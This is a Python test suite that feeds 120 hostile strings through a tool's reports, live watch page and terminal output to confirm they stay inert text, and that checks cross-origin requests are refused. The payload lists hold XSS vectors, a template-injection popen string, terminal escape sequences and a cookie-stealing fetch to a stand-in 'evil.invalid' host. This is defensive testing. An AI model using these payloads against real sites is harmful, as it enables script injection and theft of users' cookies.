"""G17: 120 payloads in names, labels, prompts, answers and errors: no script, dialog or foreign request on any page, no
escape sequence on a terminal; and a page from elsewhere may ask nothing.
"""

# ruff: noqa: E501 (payloads are not cut)
from __future__ import annotations

import http.client
import json
import re
import subprocess
import sys
import threading
from collections.abc import Iterator
from dataclasses import replace
from pathlib import Path
from typing import Any

import pytest

from freehold.nouns import Slot, Template
from freehold.project import Project

from .conftest import Served
from .world import INTENTS, ask, audit_of, post, project_at, request

LOOK = Path(__file__).resolve().parents[2] / "scripts" / "look"
RUN = "window.pwned=(window.pwned||0)+1"
FETCH = "fetch('http://evil.invalid/'+document.cookie)"
HTML = [
    "<script>{}</script>", "<ScRiPt>{}</sCrIpT>", "<script src=//evil.invalid/x.js></script>", "<img src=x onerror=\"{}\">",
    "<img src=//evil.invalid/x.png>", "<svg onload=\"{}\">", "<svg><script>{}</script></svg>", "<body onload=\"{}\">",
    "<iframe srcdoc=\"<script>parent.{}</script>\">", "<iframe src=\"javascript:parent.{}\">", "<iframe src=//evil.invalid>",
    "<a href=\"javascript:{}\">x</a>", "<details open ontoggle=\"{}\">", "<video><source onerror=\"{}\">", "<input autofocus onfocus=\"{}\">",
    "<math><mtext></table><img src=x onerror=\"{}\">", "<object data=\"javascript:{}\">", "<embed src=//evil.invalid/x.swf>",
    "<base href=//evil.invalid/>", "<meta http-equiv=refresh content=\"0;url=//evil.invalid\">", "<link rel=stylesheet href=//evil.invalid/x.css>",
    "<style>@import '//evil.invalid/x.css';</style>", "<style>*{background:url(//evil.invalid/x)}</style>", "<form action=//evil.invalid><button>x",
    "</script><script>{}</script>", "</title><script>{}</script>", "</textarea><script>{}</script>", "</style><script>{}</script>",
    "--><script>{}</script>", "]]><script>{}</script>", "\"><script>{}</script>", "'><script>{}</script>", "\" onmouseover=\"{}\" x=\"",
    "' autofocus onfocus='{}' x='", "`-{}-`", "${{{}}}", "{{{{{}}}}}", "{{%raw%}}<script>{}</script>", "{{{{ cycler.__init__.__globals__.os.popen('x') }}}}",
    "<%= {} %>", "#{{{}}}", "javascript:{}", "data:text/html,<script>{}</script>", "&lt;script&gt;{}&lt;/script&gt;", "&#60;script&#62;{}&#60;/script&#62;",
    "\\u003cscript\\u003e{}\\u003c/script\\u003e", "%3Cscript%3E{}%3C/script%3E", "<scr<script>ipt>{}</scr</script>ipt>", "<\x00script>{}</script>",
    "<noscript><p title=\"</noscript><img src=x onerror={}>\">", "<template><script>{}</script></template>", "<x onclick=\"{}\" tabindex=1 autofocus onfocus=\"{}\">x",
    "<marquee onstart=\"{}\">x", "<isindex type=image src=1 onerror=\"{}\">", "<!--[if gte IE 4]><script>{}</script><![endif]-->",
]  # fmt: skip
MARKDOWN = [
    "![x](http://evil.invalid/x.png)", "[x](javascript:{})", "[x](data:text/html,<script>{}</script>)", "[![x](//evil.invalid/x)](//evil.invalid)",
    "<http://evil.invalid>", "[x]: http://evil.invalid \"{}\"", "![x][y]\n\n[y]: http://evil.invalid/x.png", "$\\href{{javascript:{}}}{{x}}$",
    "$\\includegraphics{{http://evil.invalid/x.png}}$", "$\\htmlStyle{{background:url(//evil.invalid)}}{{x}}$", "```html\n<script>{}</script>\n```", "# <img src=x onerror={}>",
]  # fmt: skip
TERMINAL = [
    "\x1b[2J", "\x1b]0;pwned\x07", "\x1b]8;;http://evil.invalid\x07x\x1b]8;;\x07", "\x1b[31mred", "\x1b[8mhidden", "\x1b[?1049h", "\x1bP+q\x1b\\", "\x9b2J",
    "\x07", "\x08\x08\x08", "\rover", "\x1b]52;c;cHduZWQ=\x07", "\x7f", "\u202egnp.exe", "\u2028next", "\u2029next", "\x85next", "\x0c", "\x0b",
    "[bold red]x[/]", "[link=http://evil.invalid]x[/link]", "\x1b[1A\x1b[2K", "a\nb\nPASSED", "=HYPERLINK(\"http://evil.invalid\")", "%s%n%x", "{0.__class__}",
    "\x1b[6n", "\x1b]11;?\x07", "\x1b[c", "\ufeff\u200b",
]  # fmt: skip
PAYLOADS = [p.replace("{{", "{").replace("}}", "}").replace("{}", RUN) for p in (*HTML, *MARKDOWN)] + TERMINAL
PAYLOADS += [p.replace("{{", "{").replace("}}", "}").replace("{}", FETCH) for p in HTML if "{}" in p]
PAYLOADS = PAYLOADS[:120]
STATE = """JSON.stringify({pwned: window.pwned || 0, title: document.title, base: document.baseURI,
  frames: document.querySelectorAll('iframe,object,embed,base,form[action]').length,
  handlers: [...document.querySelectorAll('*')].filter(e => [...e.attributes].some(a => a.name.startsWith('on'))).length,
  images: [...document.images].filter(i => !i.src.startsWith('data:')).length,
  links: [...document.querySelectorAll('[href],[src]')].filter(e => /^(javascript|data:text)/i.test(e.getAttribute('href') || e.getAttribute('src'))).length,
  elsewhere: [...document.querySelectorAll('[src],link[href]')].filter(e => /evil/.test(e.outerHTML)).length,
  text: document.body.innerText.length, shown: (document.body.textContent.match(/pwned/g) || []).length})"""
ESCAPES = re.compile(r"[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2028\u2029]")


def hostile(folder: Path) -> Project:
    """A project whose every text is a payload: its log's tasks, models, labels and examples, and served calls."""
    project = project_at(folder)
    thirds = [PAYLOADS[i::3] for i in range(3)]
    tasks = [
        replace(
            INTENTS, name=f"task {i} {payload}", labels=tuple(thirds[1][4 * i : 4 * i + 4]), models=(thirds[2][i],),
            template=Template((Slot("system", payload), Slot("user", thirds[1][i], "", variable=True))), example=payload,
        )
        for i, payload in enumerate(thirds[0])
    ]  # fmt: skip
    project.save(audit_of(INTENTS, *tasks))
    rows = [row(i, payload) for i, payload in enumerate(PAYLOADS)]
    (project.path / "ledger").mkdir(exist_ok=True)
    (project.path / "ledger" / "2026-11-24-1.jsonl").write_text("".join(json.dumps(r) + "\n" for r in rows))
    return project


def row(i: int, text: str) -> dict[str, Any]:
    """A served call as the ledger has it."""
    student = {"sha256": "3f" * 32, "answer": text, "score": 0.4, "threshold": 0.9}
    said = {
        "id": f"chatcmpl-{i}", "task": text, "answered_by": "upstream", "why": "escalated", "probability": 1.0,
        "status": "failed", "http": 400, "student": student, "money": {"home": 0.0, "saved": 0.0}, "reason": text,
    }  # fmt: skip
    messages = [{"role": "system", "content": text}, {"role": "user", "content": text}]
    error = {"error": {"message": text, "type": text}}
    at = f"2026-11-24T06:{i // 60:02d}:{i % 60:02d}.000+00:00"
    return {
        "timestamp": at,
        "seconds": 0.004,
        "request": {"model": text, "messages": messages},
        "response": error,
        "freehold": said,
    }


@pytest.fixture(scope="module")
def project(tmp_path_factory: pytest.TempPathFactory) -> Project:
    return hostile(tmp_path_factory.mktemp("hostile") / "project")


@pytest.fixture(scope="module")
def watching(project: Project) -> Iterator[str]:
    command = [sys.executable, "-m", "freehold", "watch", str(project.path), "--port", "0", "--show-prompts"]
    with subprocess.Popen(command, stdout=subprocess.PIPE, text=True) as process:
        assert process.stdout
        stop = threading.Timer(100, process.kill)
        stop.start()
        yield process.stdout.readline().split()[-1].rstrip("/")
        stop.cancel()
        process.terminate()


def harmless(page: str, own: tuple[str, ...]) -> dict[str, Any]:
    """What a browser made of a page, after it has been found harmless."""
    command = [
        sys.executable,
        str(LOOK),
        page,
        "--widths",
        "1280",
        "--schemes",
        "light",
        "--wait",
        "1",
        "--eval",
        STATE,
    ]
    done = subprocess.run(command, capture_output=True, text=True, timeout=120)
    if done.returncode == 3:
        pytest.skip(done.stderr.strip())
    assert done.returncode == 0, done.stderr
    view = json.loads(done.stdout.splitlines()[0])
    state: dict[str, Any] = json.loads(view["value"])
    assert (
        state["pwned"],
        state["frames"],
        state["handlers"],
        state["images"],
        state["links"],
        state["elsewhere"],
    ) == (0,) * 6
    assert [url for url in view["requests"] if not url.startswith((*own, "data:"))] == []
    assert view["errors"] == []
    assert "evil" not in state["base"]
    assert state["shown"] > 20, "the payloads are on the page, as text"
    return state


def test_there_are_120() -> None:
    assert len(set(PAYLOADS)) == 120


def test_the_report_shows_them_as_text(project: Project) -> None:
    done = subprocess.run(
        [sys.executable, "-m", "freehold", "report", "--project", str(project.path)], capture_output=True, text=True
    )
    assert done.returncode == 0, done.stderr
    page = project.path / "report.html"
    harmless(str(page), (page.resolve().as_uri(),))


def test_the_watch_page_shows_them_as_text(watching: str) -> None:
    harmless(watching + "/", (watching,))


@pytest.mark.parametrize(
    "origin", ["http://evil.invalid", "null", "http://127.0.0.1:1", "https://127.0.0.1", "file://"]
)
def test_a_page_from_elsewhere_may_ask_nothing(origin: str, served: Served, watching: str) -> None:
    before = len(served.host.seen)
    assert post(served.port, request(), Origin=origin)[0] == 403
    assert post(served.port, request(), Content_Type="text/plain", Origin=origin)[0] == 403
    assert post(served.port, request(), Sec_Fetch_Site="cross-site")[0] == 403
    port = int(watching.rsplit(":", 1)[1])
    head = f"Host: 127.0.0.1:{port}\r\nOrigin: {origin}\r\nConnection: close\r\n\r\n"
    for verb in ("POST", "PUT", "DELETE"):
        assert 400 <= ask(port, f"{verb} / HTTP/1.1\r\n{head}".encode())[0] < 500
    line = http.client.HTTPConnection("127.0.0.1", port, timeout=30)
    line.request("GET", "/", headers={"Origin": origin})
    answer = line.getresponse()  # it changes nothing, and nobody elsewhere may read it or frame it
    assert answer.headers.get("Access-Control-Allow-Origin") is None
    assert "frame-ancestors 'none'" in answer.headers.get("Content-Security-Policy", "")
    answer.read()
    line.close()
    assert ask(port, f"GET / HTTP/1.1\r\nHost: evil.invalid\r\n{head.split(chr(10), 1)[1]}".encode())[0] in (
        400,
        403,
        421,
    )
    assert len(served.host.seen) == before


def test_a_terminal_gets_no_escapes(project: Project, tmp_path: Path) -> None:
    log = tmp_path / "calls.jsonl"
    lines = []
    for i, payload in enumerate(PAYLOADS):
        for turn in range(4):
            said = request(f"{payload} {turn}", model=payload) | {"user": payload}
            said["messages"][0]["content"] = f"Task {i} of {payload}. Answer with one word."
            answer = {
                "choices": [{"message": {"role": "assistant", "content": payload}, "finish_reason": "stop"}],
                "model": payload,
            }
            lines.append(json.dumps({"timestamp": "2026-10-01T10:00:00Z", "request": said, "response": answer}))
    lines += [f'{{"broken {p}' for p in TERMINAL]
    log.write_text("\n".join(line.replace("\n", " ") for line in lines) + "\n", encoding="utf-8")
    out = []
    for verb in (["audit", str(log), "--project", str(tmp_path / "p")], ["plan", "--project", str(tmp_path / "p")],
                 ["report", "--project", str(project.path)]):  # fmt: skip
        done = subprocess.run([sys.executable, "-m", "freehold", *verb], capture_output=True, timeout=120)
        out.append((verb[0], done.stdout.decode() + done.stderr.decode()))
    found = [(verb, match.group().encode("unicode_escape"), text[max(0, match.start() - 40) : match.end() + 20])
             for verb, text in out for match in [ESCAPES.search(text)] if match]  # fmt: skip
    assert found == []
    assert any("http" in text or "pwned" in text or "task" in text.lower() for _, text in out)
